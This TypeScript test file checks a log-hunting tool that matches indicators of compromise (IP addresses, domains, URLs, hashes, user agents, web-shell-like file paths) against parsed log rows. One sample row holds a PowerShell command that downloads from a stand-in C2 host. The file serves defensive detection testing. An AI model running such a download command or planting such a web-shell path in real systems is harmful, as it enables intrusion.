import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Block } from '../../event/block.ts'
import { BlockBuilder } from '../../event/block-builder.ts'
import { utf8 } from '../../event/bytes.ts'
import type { Role } from '../../event/roles.ts'
import { withoutKernel } from '../../kernel/kernel.ts'
import { evaluate } from '../../predicate/evaluate/evaluate.ts'
import { indicatorFrom, predicateOf, type Indicator, type WrittenIndicator } from './indicator.ts'
import { IndicatorHunter } from './indicator-hunter.ts'

const FIELDS: Partial<Record<Role, string>> = { 'user.agent': 'agent', 'url.path': 'stem' }
const fieldOf = (_: string, role: Role): string | undefined => FIELDS[role]

const WRITTEN: readonly WrittenIndicator[] = [
  { type: 'address', value: '198.51.100.7' },
  { type: 'address', value: '203.0.113.0/24' },
  { type: 'address', value: '2001:db8::7' },
  { type: 'address', value: '::/0' },
  { type: 'domain', value: 'evil.example' },
  { type: 'domain', value: 'a.evil.example' },
  { type: 'url', value: 'https://evil.example:443/a/b?c' },
  { type: 'url', value: 'http://198.51.100.7:8080/x' },
  { type: 'hash', value: 'd41d8cd98f00b204e9800998ecf8427e' },
  { type: 'agent', value: 'Bad Bot/1.0 (+x)' },
  { type: 'path', value: 'C:\\inetpub\\wwwroot\\aspnet_client\\Supp0rt.aspx' },
  { type: 'path', value: 'supp0rt.aspx' },
  { type: 'path', value: '\\my tools\\a b.exe' },
  { type: 'file-pattern', value: '(?i)\\\\temp\\\\[a-z]+\\.exe$', except: 'good' },
  { type: 'file-pattern', value: '[0-9]{3}' },
  { type: 'file-pattern', value: 'abc\\.exe|supp0rt|évil' },
]

function indicatorOf(written: WrittenIndicator): Indicator {
  const made = indicatorFrom('test', written)
  if (!made.ok) throw new Error(made.reason)
  return made.indicator
}

const INDICATORS = WRITTEN.map(indicatorOf)
const PIECES = [
  '198.51.100.7',
  '198.51.100.77',
  '203.0.113.9',
  '2001:DB8::7',
  '::ffff:198.51.100.7',
  'evil.example',
  'EVIL.example',
  '/a/b?c',
  ':443',
  ':8080/x',
  'd41d8cd98f00b204e9800998ecf8427e',
  'bad+bot/1.0+(+x)',
  'bad bot/1.0 (+x)',
  'c:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
  '/aspnet_client/supp0rt.aspx',
  '\\my tools\\a b.exe',
  'C:\\Temp\\abc.exe',
  'good',
  '123',
  ' ',
  '.',
  '-',
  ',',
  'x',
  '[',
  ']',
  'É',
]
const value = fc.array(fc.constantFrom(...PIECES), { maxLength: 4 }).map((parts) => parts.join(''))
const rows = fc.array(
  fc.record(
    {
      agent: value,
      stem: value,
      Image: value,
      any: value,
      many: fc.array(value, { minLength: 1, maxLength: 3 }),
    },
    { requiredKeys: [] },
  ),
  { minLength: 1, maxLength: 40 },
)

function blockOf(given: readonly Record<string, string | readonly string[]>[]): Block {
  const blocks: Block[] = []
  const builder = new BlockBuilder({
    format: 'test',
    placeKind: 'line',
    blank: 'absent',
    emit: (block) => blocks.push(block),
  })
  given.forEach((row, i) => {
    builder.row(i, i + 1, i, 1)
    for (const [name, cell] of Object.entries(row)) {
      if (typeof cell === 'string') builder.putText(builder.field(name), cell)
      else builder.putMany(builder.field(name, true), cell.map(utf8))
    }
  })
  builder.flush()
  return blocks[0]!
}

describe('hunting for indicators', () => {
  it('finds for thousands at once what each asks for alone', () => {
    const hunter = new IndicatorHunter(INDICATORS, fieldOf)
    fc.assert(
      fc.property(rows, value, (some, leftover) => {
        // The filler makes the block large enough for the kernel to be used.
        const given = [
          ...some,
          ...Array.from({ length: 30 }, (_, i) => ({ any: `nothing of interest ${i}` })),
        ]
        const block = { ...blockOf(given), raw: new Map([[0, utf8(leftover)]]) }
        const context = { sourceId: 0, hostOf: () => null, fieldOf }
        const expected = INDICATORS.flatMap((indicator) => {
          const found = [...evaluate(predicateOf(indicator), block, context).rows()]
          return found.length > 0 ? [[indicator.name, found]] : []
        })
        const found = (): Map<string, number[]> =>
          new Map(hunter.hunt(block).map(({ rule, rows: at }) => [rule.name, [...at]]))
        expect(found()).toEqual(new Map(expected as [string, number[]][]))
        expect(withoutKernel(found)).toEqual(found())
      }),
      { numRuns: 300 },
    )
  })

  const CHROME =
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36'
  /** What stands in a column, and whether it is what the indicator names. */
  const MEANT: readonly (readonly [
    WrittenIndicator,
    Readonly<Record<string, string | readonly string[]>>,
    boolean,
  ])[] = [
    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.18' }, true],
    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.18:52113' }, true],
    [{ type: 'address', value: '5.254.43.18' }, { any: '::ffff:5.254.43.18' }, true],
    [{ type: 'address', value: '5.254.43.18' }, { any: '10.0.0.1,5.254.43.18' }, true],
    [{ type: 'address', value: '5.254.43.18' }, { many: ['10.0.0.1', '5.254.43.18'] }, true],
    [{ type: 'address', value: '5.254.43.18' }, { any: '15.254.43.18' }, false],
    [{ type: 'address', value: '5.254.43.18' }, { any: '5.254.43.180' }, false],
    [{ type: 'address', value: '5.254.43.18' }, { any: '15.5.254.43.18' }, false],
    [{ type: 'address', value: '203.0.113.0/24' }, { any: '203.0.113.250' }, true],
    [{ type: 'address', value: '203.0.113.0/24' }, { any: '203.0.114.1' }, false],
    [{ type: 'address', value: 'fe80::1' }, { any: 'fe80::1%3' }, true],
    [{ type: 'address', value: 'fe80::1%12' }, { any: 'FE80:0:0:0:0:0:0:1' }, true],
    [{ type: 'address', value: '2001:db8::7' }, { any: '[2001:0db8::0007]:443' }, true],
    [{ type: 'address', value: '2001:db8::7' }, { any: '2001:db8::77' }, false],
    [{ type: 'domain', value: 'evil.example' }, { any: 'EVIL.example' }, true],
    [{ type: 'domain', value: 'evil.example' }, { any: 'c2.evil.example' }, true],
    [{ type: 'domain', value: 'evil.example' }, { any: 'powershell iwr http://c2.evil.example/a' }, true],
    [{ type: 'domain', value: 'evil.example' }, { any: 'notevil.example' }, false],
    [{ type: 'domain', value: 'evil.example' }, { any: 'evil.example.org' }, false],
    [{ type: 'url', value: 'https://evil.example/a?b' }, { any: 'http://evil.example:443/a?b' }, true],
    [{ type: 'url', value: 'https://evil.example/a' }, { any: 'https://evil.example/other' }, false],
    [{ type: 'url', value: 'https://evil.example/a' }, { any: 'https://notevil.example/a' }, false],
    // A space is a plus sign for IIS, and HttpProxy leaves commas out.
    [{ type: 'agent', value: CHROME }, { agent: CHROME.replaceAll(' ', '+') }, true],
    [{ type: 'agent', value: CHROME }, { agent: CHROME.replaceAll(',', ' ') }, true],
    [{ type: 'agent', value: CHROME.replaceAll(' ', '+') }, { agent: CHROME.toLowerCase() }, true],
    [{ type: 'agent', value: CHROME }, { agent: `${CHROME} Edg/1` }, false],
    [{ type: 'agent', value: 'python-requests/2.25.1' }, { agent: 'python-requests/2.25.10' }, false],
  ]
  it.each(
    MEANT.map(([written, row, meant]) => [written.value, JSON.stringify(row), meant, written, row] as const),
  )('%s in %s: %s', (_value, _row, meant, written, row) => {
    const hunter = new IndicatorHunter([indicatorOf(written)], fieldOf)
    expect(hunter.hunt(blockOf([row])).length > 0).toBe(meant)
  })

  it('knows under which path the web shows a file', () => {
    const shell = indicatorOf(WRITTEN[10]!)
    const block = blockOf([
      { stem: '/ASPNET_client/supp0rt.aspx' },
      { stem: '/x/aspnet_client/supp0rt.aspx' },
    ])
    expect(new IndicatorHunter([shell], fieldOf).hunt(block).map(({ rows: at }) => [...at])).toEqual([[0]])
  })
})
